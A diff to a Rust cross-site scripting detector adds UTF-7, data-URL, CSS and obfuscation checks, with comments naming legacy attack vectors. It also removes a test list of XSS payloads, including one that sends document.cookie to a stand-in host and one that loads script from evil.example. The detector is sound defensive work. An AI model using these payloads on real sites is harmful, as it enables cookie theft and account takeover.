@@ -3,9 +3,14 @@
 //! harmless markup (`<b>`, `<a href="https://...">`) and prose about scripts do not match.
 //! Script without markup is `script`'s part.
 
+mod css;
+mod obfuscated;
 mod script;
+mod utf7;
 
 use super::Match;
+use css::{bare_css, dangerous_css};
+use crate::inspect::normalize::decode;
 
 /// Tags that run code or change how the page loads, whatever their attributes.
 const DANGEROUS_TAGS: &[&str] = &[
@@ -79,7 +84,14 @@ pub fn check_with(value: &str, scratch: &mut Scratch) -> Option<Match> {
         return Some(m);
     }
     // Reflected into a script string, `\x3c` and `\u0061` are `<` and `a` again.
-    if script::unescape_js(lower, &mut scratch.unescaped) {
+    if script::unescape_js(lower, &mut scratch.unescaped)
+        && let Some(m) = check_lower(&scratch.unescaped, &scratch.unescaped)
+    {
+        return Some(Match::new(m.rule, value, 0, value.len()));
+    }
+    // Read as UTF-7, `+ADw-script+AD4-` is a tag (case matters to base64: `value`).
+    if utf7::decode(value, &mut scratch.unescaped) {
+        scratch.unescaped.make_ascii_lowercase();
         let m = check_lower(&scratch.unescaped, &scratch.unescaped)?;
         return Some(Match::new(m.rule, value, 0, value.len()));
     }
@@ -107,8 +119,7 @@ fn check_lower(value: &str, lower: &str) -> Option<Match> {
     }
     // Both need a call: `(` or a tagged template's backtick.
     let calls = lower.contains('(') || lower.contains('`');
-    if calls
-        && lower.contains('=')
+    if lower.contains('=')
         && let Some((s, e)) = script::bare_handler(lower)
     {
         return Some(Match::new("xss:attribute_breakout", value, s, e));
@@ -116,8 +127,21 @@ fn check_lower(value: &str, lower: &str) -> Option<Match> {
     if calls && let Some((s, e)) = script::tagless_call(lower) {
         return Some(Match::new("xss:script_call", value, s, e));
     }
+    if lower.contains(['\'', '"', '/'])
+        && let Some((s, e)) = obfuscated::split_sink(lower)
+    {
+        return Some(Match::new("xss:script_call", value, s, e));
+    }
     if let Some((s, e)) = script_url_inside(lower) {
         return Some(Match::new("xss:script_url", value, s, e));
+    }
+    if lower.contains("base64")
+        && let Some((s, e)) = data_url_attack(value, lower)
+    {
+        return Some(Match::new("xss:data_url", value, s, e));
+    }
+    if let Some((s, e)) = bare_css(lower) {
+        return Some(Match::new("xss:css", value, s, e));
     }
     // `style=xss:expression(alert(1))`: an attribute of its own, injected unquoted.
     let b = lower.as_bytes();
@@ -161,7 +185,11 @@ fn tags(value: &str, lower: &str) -> Option<Match> {
     while let Some(p) = lower[i..].find('<') {
         let start = i + p;
         let mut j = start + 1;
-        if b.get(j) == Some(&b'/') {
+        let closing = b.get(j) == Some(&b'/');
+        // `<;script`, `<%script>` (filters that look for `<` and a letter miss them; old
+        // parsers and the pages they are written for do not) and `<?import` (IE's
+        // behaviours) open a tag too.
+        if closing || matches!(b.get(j), Some(b';' | b'%' | b'?')) {
             j += 1;
         }
         let name_start = j;
@@ -173,7 +201,13 @@ fn tags(value: &str, lower: &str) -> Option<Match> {
             continue;
         }
         let name = &lower[name_start..j];
-        if DANGEROUS_TAGS.contains(&name) {
+        // An end tag runs nothing by itself: it counts where it breaks out of the page's
+        // own element (`</script>` opening the value, `'"></iframe>`), not in prose about
+        // markup (`an unopened </script> tag`).
+        if dangerous_tag(name)
+            && (!closing || breaks_out_before(&b[..start]))
+            && (closing || !inert_element(b, start, j))
+        {
             return Some(Match::new("xss:tag", value, start, j));
         }
         let end = lower[j..].find('>').map_or(b.len(), |e| j + e);
@@ -193,6 +227,45 @@ fn tags(value: &str, lower: &str) -> Option<Match> {
         }
     }
     None
+}
+
+/// Whether `before` (the value up to an end tag) only closes what the page had open:
+/// nothing but quotes, brackets and white space, an attribute closed by `">`, or a
+/// statement ended (`alert(1);</script>`).
+fn breaks_out_before(before: &[u8]) -> bool {
+    let code = before.trim_ascii_end();
+    before.ends_with(b"\">")
+        || before.ends_with(b"'>")
+        || code.ends_with(b")")
+        || code.ends_with(b";")
+        || before
+            .iter()
+            .all(|c| c.is_ascii_whitespace() || b"\"'`>;)]}".contains(c))
+}
+
+/// Whether the start tag at `start..name_end` loads nothing: a generic type's parameter
+/// (`List<Object>`, `Promise<Object[]>`, glued to a name), or a plugin element without
+/// attributes (`<object>`, as API references write the type), which has nothing to load.
+fn inert_element(b: &[u8], start: usize, name_end: usize) -> bool {
+    let name = &b[start + 1..name_end];
+    let next = b.get(name_end);
+    let generic = start > 0
+        && (b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_')
+        && matches!(next, Some(b'>' | b',' | b'['))
+        && !name.ends_with(b"script");
+    let empty_plugin = matches!(name, b"object" | b"embed" | b"applet") && matches!(next, Some(b'>' | b'['));
+    generic || empty_plugin
+}
+
+/// Whether the tag `name` runs code or loads a document whatever its attributes; behind a
+/// namespace prefix (`<x:script xmlns:x="http://www.w3.org/1999/xhtml">`, `<svg:script>`)
+/// only the script and frame elements, since XML vocabularies have `import`, `base` and
+/// `handler` elements of their own (`<xs:import>`).
+fn dangerous_tag(name: &str) -> bool {
+    match name.rsplit_once(':') {
+        None => DANGEROUS_TAGS.contains(&name),
+        Some((_, local)) => matches!(local, "script" | "iframe" | "frame" | "embed"),
+    }
 }
 
 /// Scans `attrs` (the inside of a tag after its name) for an event handler, a script URL or
@@ -259,13 +332,71 @@ fn dangerous_attribute(attrs: &str, tag: &str) -> Option<(usize, usize)> {
             if tag == "meta" && name == "http-equiv" && value.contains("refresh") {
                 return Some((name_start, ve));
             }
+            if element_attribute(tag, name, value) {
+                return Some((name_start, ve));
+            }
         } else if name.is_empty() {
             i += 1;
+        } else if tag == "link" && name == "import" {
+            // `<link rel=prefetch import href=...>`: the unquoted list's second word.
+            return Some((name_start, i));
         }
         let _ = value;
     }
     if tag == "style" {
         return dangerous_css(attrs).then_some((0, attrs.len()));
+    }
+    None
+}
+
+/// The attributes that make one element load or run code: an HTML import
+/// (`<link rel=import>`), an IE data island (`<xml src>`), Netscape's JavaScript style
+/// sheets (`<style type=text/javascript>`), a page charset that reads `+ADw-` as `<`
+/// (`<meta charset=utf-7>`), and a `mocha:` URL (Netscape's `javascript:`).
+fn element_attribute(tag: &str, name: &str, value: &str) -> bool {
+    match (tag, name) {
+        ("link", "rel") => value.split_ascii_whitespace().any(|w| w == "import"),
+        ("xml", "src") => true,
+        ("style", "type") => value.contains("javascript"),
+        ("meta", "charset" | "content") => value.contains("utf-7") || value.contains("utf7"),
+        _ => URL_ATTRIBUTES.contains(&name) && value.trim_start().starts_with("mocha:"),
+    }
+}
+
+/// A `data:` URL whose base64 content (`data:text/html;base64,PHNjcmlwdD4...`, or
+/// `data:image/svg+xml;base64,...` holding a script) decodes to a document the checks find
+/// an attack in; returns the range of the `data:`. `value` gives the case base64 needs,
+/// `lower` is it lowercased. A picture or a harmless SVG icon inlined as a data URL decodes
+/// to nothing they find (or to no text at all).
+fn data_url_attack(value: &str, lower: &str) -> Option<(usize, usize)> {
+    let mut from = 0;
+    while let Some(p) = lower[from..].find("data:") {
+        let at = from + p;
+        from = at + 5;
+        // The media type and its parameters end in `;base64,` (white space and the line
+        // breaks of `&NewLine;` tolerated around it).
+        let head = &lower[at..(at + 120).min(lower.len())];
+        let Some(k) = head.find("base64") else {
+            continue;
+        };
+        let after = &lower[at + k + 6..];
+        let Some(data) = after.trim_start().strip_prefix(',') else {
+            continue;
+        };
+        let data_start = lower.len() - data.trim_start().len();
+        let data_end = data_start
+            + value.as_bytes()[data_start..]
+                .iter()
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
+                .count();
+        // `data:image/svg xml`: a `+` the query string turned into a space.
+        let found = decode::base64_text_with(&value[data_start..data_end], |doc| {
+            let lower = doc.to_ascii_lowercase();
+            check_lower(doc, &lower).is_some()
+        });
+        if found == Some(true) {
+            return Some((at, data_start));
+        }
     }
     None
 }
@@ -292,26 +423,6 @@ fn loose_handler(attrs: &str) -> Option<usize> {
         }
     }
     None
-}
-
-fn dangerous_css(css: &str) -> bool {
-    const SHAPES: [&str; 6] = [
-        "expression(",
-        "javascript:",
-        "behavior:",
-        "-moz-binding",
-        "binding:",
-        "@import",
-    ];
-    if SHAPES.iter().any(|p| css.contains(p)) {
-        return true;
-    }
-    // CSS escapes (`\65 xpression(`, `-\mo\z-binding`) and comments spell the same
-    // properties (CSS Syntax Level 3, 4.3.7).
-    (css.contains('\\') || css.contains("/*")) && {
-        let plain = script::unescape_css(css);
-        SHAPES.iter().any(|p| plain.contains(p))
-    }
 }
 
 /// Start of a `javascript:`/`vbscript:`/`data:text/html` URL at the start of `lower`,
@@ -361,6 +472,45 @@ fn attribute_breakout(lower: &str) -> Option<(usize, usize)> {
         if rest.starts_with("autofocus") && rest.contains("onfocus") {
             return Some((q, lower.len().min(i + 20)));
         }
+        if seen_sep && let Some(e) = handler_after_attributes(rest) {
+            return Some((q, i + e));
+        }
+    }
+    None
+}
+
+/// `type=image src=x onerror=...`: up to three attributes (`name=value`, the value bare
+/// or quoted) and then an event handler of [`script::EVENTS`]; returns the end of its
+/// `=`. The attributes before it are what make the injected element fire (an `<input
+/// type=image>` loads its `src`), and prose does not chain `name=value` words into one.
+fn handler_after_attributes(rest: &str) -> Option<usize> {
+    let b = rest.as_bytes();
+    let mut i = 0;
+    for _ in 0..4 {
+        let name_len = b[i..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphabetic() || **c == b'-')
+            .count();
+        let name = &rest[i..i + name_len];
+        i += name_len;
+        if b.get(i) != Some(&b'=') || name.is_empty() {
+            return None;
+        }
+        if let Some(event) = name.strip_prefix("on")
+            && script::EVENTS.contains(&event)
+        {
+            return Some(i + 1);
+        }
+        i += 1;
+        i += match b.get(i) {
+            Some(&q @ (b'"' | b'\'')) => 2 + b[i + 1..].iter().position(|&c| c == q)?,
+            _ => b[i..].iter().take_while(|c| !c.is_ascii_whitespace()).count(),
+        };
+        let sep = b[i..].iter().take_while(|c| c.is_ascii_whitespace() || **c == b'/').count();
+        if sep == 0 {
+            return None;
+        }
+        i += sep;
     }
     None
 }
@@ -388,69 +538,26 @@ fn script_breakout(lower: &str) -> Option<(usize, usize)> {
             .or_else(|| rest.strip_prefix("self."))
             .or_else(|| rest.strip_prefix("top."))
             .unwrap_or(rest);
-        if let Some(sink) = SINKS.iter().find(|s| rest.starts_with(*s)) {
+        if let Some(sink) = SINKS.iter().find(|s| rest.starts_with(*s))
+            && (*sink != "function(" || function_runs(rest))
+        {
             return Some((q, (lower.len() - rest.len() + sink.len()).min(lower.len())));
         }
     }
     None
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn attacks_match() {
-        let attacks = [
-            "<script>alert(1)</script>",
-            "<ScRiPt src=//evil.example/x.js>",
-            "<img src=x onerror=alert(1)>",
-            "<img src=x onerror=alert(1)",
-            "<svg/onload=alert(1)>",
-            "<body onload=alert(document.cookie)>",
-            "<a href=\"javascript:alert(1)\">x</a>",
-            "<a href=\"java\tscript:alert(1)\">x</a>",
-            "<iframe srcdoc=\"<script>alert(1)</script>\">",
-            "<iframe src=//evil>",
-            "<div style=\"width:expression(alert(1))\">",
-            "javascript:alert(1)",
-            "  JaVaScRiPt:alert(1)",
-            "data:text/html;base64,PHNjcmlwdD4=",
-            "\" onmouseover=\"alert(1)",
-            "' autofocus onfocus=alert(1) x='",
-            "\"><svg onload=alert(1)>",
-            "';alert(1)//",
-            "\"-prompt(1)-\"",
-            "'};fetch('//evil/'+document.cookie);//",
-            "<details open ontoggle=alert(1)>",
-            "<meta http-equiv=\"refresh\" content=\"0;url=//evil\">",
-            "<object data=\"javascript:alert(1)\">",
-            "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
-        ];
-        let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
-        assert!(missed.is_empty(), "missed: {missed:?}");
+/// Whether the function expression starting `rest` runs something: it is invoked where
+/// it is written (`function(){...}()`) or its body calls a sink. A callback handed on
+/// (`.each(['a'], function(name) {`) is what code lines are full of.
+fn function_runs(rest: &str) -> bool {
+    let mut end = rest.len().min(120);
+    while !rest.is_char_boundary(end) {
+        end -= 1;
     }
-
-    #[test]
-    fn benign_text_does_not_match() {
-        let benign = [
-            "I love JavaScript: it's great",
-            "<b>bold</b> and <i>italic</i>",
-            "<a href=\"https://example.com/page\">link</a>",
-            "x < 3 and y > 2",
-            "a<b>c",
-            "the script was long",
-            "onload event handlers are a JS topic",
-            "He said \"hello\" and left",
-            "It's done; alert the team (later)",
-            "<p class=\"note\">Hi</p>",
-            "<3 you",
-            "email me: a@b.c",
-            "Use alert() sparingly",
-            "\"quoted\" onwards",
-        ];
-        for b in benign {
-            assert_eq!(check(b), None, "{b}");
-        }
-    }
+    let body = &rest[..end];
+    body.contains("}()") || body.contains("})()") || script::tagless_call(&body[9..]).is_some()
 }
+
+#[cfg(test)]
+mod tests;
